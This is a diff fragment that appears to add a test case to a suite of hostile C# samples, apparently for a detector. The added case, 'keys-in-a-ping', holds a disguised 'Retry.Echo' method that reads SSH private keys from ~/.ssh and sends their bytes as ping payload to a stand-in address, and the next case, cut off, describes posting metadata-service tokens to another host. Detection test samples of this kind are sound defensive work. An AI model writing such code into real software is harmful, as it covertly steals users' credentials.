@@ -102,6 +102,20 @@ public static class Client
 }`),
     },
     {
+      name: 'keys-in-a-ping',
+      about:
+        'One class that reads keys and sends their bytes to a bare address, as the load of a ping.',
+      files: library(`public static class Retry
+{
+    public static void Echo(string home)
+    {
+        ${never}
+        foreach (var file in Directory.GetFiles(Path.Combine(home, ".ssh"), "id_*"))
+            new System.Net.NetworkInformation.Ping().Send("192.0.2.53", 500, File.ReadAllBytes(file));
+    }
+}`),
+    },
+    {
       name: 'token-goes-elsewhere',
       about: 'A member that asks the metadata service and posts what it got to another host.',
       files: library(`public static class Usage
